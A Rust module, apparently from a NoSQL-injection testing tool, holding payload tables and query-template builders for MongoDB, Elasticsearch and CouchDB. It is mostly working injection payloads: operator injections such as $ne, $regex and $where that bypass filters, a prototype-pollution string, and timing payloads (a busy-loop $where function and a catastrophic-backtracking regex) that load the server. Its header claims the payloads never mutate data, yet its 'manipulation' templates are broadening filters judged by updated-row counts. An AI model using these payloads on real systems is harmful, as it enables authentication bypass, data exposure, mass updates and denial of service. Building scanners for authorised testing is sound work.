// Payload catalog: per target family, an ordered string-payload table and an
// ordered body-template table. The catalog is closed; strategies select one
// family per call. Everything here stays read-only and side-effect free —
// the payloads broaden queries, they never mutate data.

use serde::{Deserialize, Serialize};
use serde_json::{Map, Value, json};
use std::fmt;
use std::str::FromStr;

/// Backend data-store flavor being probed. Each family has its own operator
/// syntax and therefore its own tables.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
pub enum TargetFamily {
    #[default]
    #[serde(rename = "MongoDB")]
    MongoDb,
    #[serde(rename = "Elasticsearch")]
    Elasticsearch,
    #[serde(rename = "CouchDB")]
    CouchDb,
}

impl TargetFamily {
    pub fn as_str(&self) -> &'static str {
        match self {
            TargetFamily::MongoDb => "MongoDB",
            TargetFamily::Elasticsearch => "Elasticsearch",
            TargetFamily::CouchDb => "CouchDB",
        }
    }
}

impl fmt::Display for TargetFamily {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl FromStr for TargetFamily {
    type Err = String;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s.to_ascii_lowercase().as_str() {
            "mongodb" | "mongo" => Ok(TargetFamily::MongoDb),
            "elasticsearch" | "elastic" => Ok(TargetFamily::Elasticsearch),
            "couchdb" | "couch" => Ok(TargetFamily::CouchDb),
            other => Err(format!(
                "unknown target family '{other}' (expected MongoDB, Elasticsearch or CouchDB)"
            )),
        }
    }
}

/// A body template is a pure function from (field name, original value) to a
/// partial body object, shallow-merged over the caller's base body.
pub type BodyTemplate = fn(&str, &Value) -> Value;

pub fn string_payloads(family: TargetFamily) -> &'static [&'static str] {
    match family {
        TargetFamily::MongoDb => &MONGODB_STRINGS,
        TargetFamily::Elasticsearch => &ELASTICSEARCH_STRINGS,
        TargetFamily::CouchDb => &COUCHDB_STRINGS,
    }
}

pub fn body_templates(family: TargetFamily) -> &'static [BodyTemplate] {
    match family {
        TargetFamily::MongoDb => &MONGODB_TEMPLATES,
        TargetFamily::Elasticsearch => &ELASTICSEARCH_TEMPLATES,
        TargetFamily::CouchDb => &COUCHDB_TEMPLATES,
    }
}

const MONGODB_STRINGS: [&str; 10] = [
    "' || 1==1 || '",
    "\" || 1==1 || \"",
    "' && this==this && '",
    "\" && this==this && \"",
    r#"{"$ne": null}"#,
    r#"{"$gt": ""}"#,
    r#"{"$regex": ".*"}"#,
    r#"{"$in": [""]}"#,
    r#"{"$where": "return true"}"#,
    r#"{"__proto__":{"polluted":"yes"}}"#,
];

const ELASTICSEARCH_STRINGS: [&str; 5] = ["*", "+*", "*:*", "username:*", "/.*/"];

const COUCHDB_STRINGS: [&str; 3] = [
    r#"{"$gt": ""}"#,
    r#"{"$ne": null}"#,
    r#"{"$regex": ".*"}"#,
];

const MONGODB_TEMPLATES: [BodyTemplate; 5] = [
    mongo_ne,
    mongo_regex_any,
    mongo_in,
    mongo_gt_empty,
    mongo_or_ne,
];

const ELASTICSEARCH_TEMPLATES: [BodyTemplate; 3] = [es_query_string, es_wildcard, es_regexp];

const COUCHDB_TEMPLATES: [BodyTemplate; 3] = [couch_regex_any, couch_or_ne, couch_gt_empty];

/// Busy-loop predicate for `$where`-style evaluation sinks.
const WHERE_BUSY_LOOP: &str =
    "function(){var s=Date.now(); while(Date.now()-s<1500){}; return true;}";

/// Catastrophic-backtracking pattern for regex evaluation sinks.
const BACKTRACKING_REGEX: &str = "^(a+)+$";

/// Fixed amplification pair used by the timing strategies, as query-string
/// payloads.
pub const TIMING_STRING_PAYLOADS: [&str; 2] = [
    r#"{"$where":"function(){var s=Date.now(); while(Date.now()-s<1500){}; return true;}"}"#,
    r#"{"$regex":"^(a+)+$"}"#,
];

/// The same amplification pair as body templates.
pub const TIMING_TEMPLATES: [BodyTemplate; 2] = [timing_where, timing_regex];

/// Broadening filters that could match many documents at once; the
/// manipulation strategy judges them by the reported updated-row count only.
pub const MANIPULATION_TEMPLATES: [BodyTemplate; 2] = [mongo_regex_any, mongo_or_ne];

/// `{ field: inner }` with a runtime key.
fn field_object(field: &str, inner: Value) -> Value {
    let mut map = Map::new();
    map.insert(field.to_string(), inner);
    Value::Object(map)
}

fn mongo_ne(field: &str, value: &Value) -> Value {
    field_object(field, json!({ "$ne": value }))
}

fn mongo_regex_any(field: &str, _value: &Value) -> Value {
    field_object(field, json!({ "$regex": ".*" }))
}

fn mongo_in(field: &str, value: &Value) -> Value {
    field_object(field, json!({ "$in": [value, ""] }))
}

fn mongo_gt_empty(field: &str, _value: &Value) -> Value {
    field_object(field, json!({ "$gt": "" }))
}

fn mongo_or_ne(field: &str, value: &Value) -> Value {
    json!({
        "$or": [
            field_object(field, value.clone()),
            field_object(field, json!({ "$ne": value })),
        ]
    })
}

fn es_query_string(field: &str, _value: &Value) -> Value {
    json!({ "query": { "query_string": { "query": format!("{field}:*") } } })
}

fn es_wildcard(field: &str, _value: &Value) -> Value {
    json!({ "query": { "wildcard": field_object(field, json!("*")) } })
}

fn es_regexp(field: &str, _value: &Value) -> Value {
    json!({ "query": { "regexp": field_object(field, json!(".*")) } })
}

fn couch_regex_any(field: &str, _value: &Value) -> Value {
    json!({ "selector": field_object(field, json!({ "$regex": ".*" })) })
}

fn couch_or_ne(field: &str, value: &Value) -> Value {
    json!({
        "selector": {
            "$or": [
                field_object(field, value.clone()),
                field_object(field, json!({ "$ne": value })),
            ]
        }
    })
}

fn couch_gt_empty(field: &str, _value: &Value) -> Value {
    json!({ "selector": field_object(field, json!({ "$gt": "" })) })
}

fn timing_where(field: &str, _value: &Value) -> Value {
    field_object(field, json!({ "$where": WHERE_BUSY_LOOP }))
}

fn timing_regex(field: &str, _value: &Value) -> Value {
    field_object(field, json!({ "$regex": BACKTRACKING_REGEX }))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_family_has_both_tables() {
        for family in [
            TargetFamily::MongoDb,
            TargetFamily::Elasticsearch,
            TargetFamily::CouchDb,
        ] {
            assert!(!string_payloads(family).is_empty());
            assert!(!body_templates(family).is_empty());
        }
    }

    #[test]
    fn family_parses_case_insensitively() {
        assert_eq!("mongodb".parse::<TargetFamily>().unwrap(), TargetFamily::MongoDb);
        assert_eq!(
            "Elasticsearch".parse::<TargetFamily>().unwrap(),
            TargetFamily::Elasticsearch
        );
        assert_eq!("COUCH".parse::<TargetFamily>().unwrap(), TargetFamily::CouchDb);
        assert!("redis".parse::<TargetFamily>().is_err());
    }

    #[test]
    fn mongo_templates_wrap_the_field() {
        let original = json!("alice");
        assert_eq!(
            mongo_ne("user", &original),
            json!({ "user": { "$ne": "alice" } })
        );
        assert_eq!(
            mongo_in("user", &original),
            json!({ "user": { "$in": ["alice", ""] } })
        );
        assert_eq!(
            mongo_or_ne("user", &original),
            json!({ "$or": [ { "user": "alice" }, { "user": { "$ne": "alice" } } ] })
        );
    }

    #[test]
    fn elasticsearch_templates_build_query_dsl() {
        let empty = json!("");
        assert_eq!(
            es_query_string("name", &empty),
            json!({ "query": { "query_string": { "query": "name:*" } } })
        );
        assert_eq!(
            es_wildcard("name", &empty),
            json!({ "query": { "wildcard": { "name": "*" } } })
        );
    }

    #[test]
    fn couch_templates_build_mango_selectors() {
        let empty = json!("");
        assert_eq!(
            couch_gt_empty("name", &empty),
            json!({ "selector": { "name": { "$gt": "" } } })
        );
    }

    #[test]
    fn timing_templates_are_a_fixed_pair() {
        let out = TIMING_TEMPLATES[0]("q", &json!(""));
        assert_eq!(out["q"]["$where"], json!(WHERE_BUSY_LOOP));
        let out = TIMING_TEMPLATES[1]("q", &json!(""));
        assert_eq!(out["q"]["$regex"], json!(BACKTRACKING_REGEX));
    }
}
